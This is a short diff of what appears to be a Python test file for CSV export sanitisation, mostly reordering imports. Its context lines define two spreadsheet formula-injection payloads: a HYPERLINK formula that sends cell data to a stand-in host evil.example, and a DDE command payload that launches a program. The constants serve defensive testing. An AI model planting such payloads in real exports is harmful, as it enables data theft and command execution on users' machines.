@@ -14,12 +14,11 @@ from httpx2 import Response
 from payloads import review_body, session_body
 from sqlalchemy import update
 
+from app.api.auth import Role
 from app.api.csv_export import neutralised
-from app.auth import Role
-from app.database import sql_engine
-from app.projecting import active_generation
 from app.settings import Settings
-from projections.tables import tables
+from app.store.database import sql_engine
+from projections.tables import active_generation, tables
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
 COMMAND = "+cmd|' /C calc'!A0"
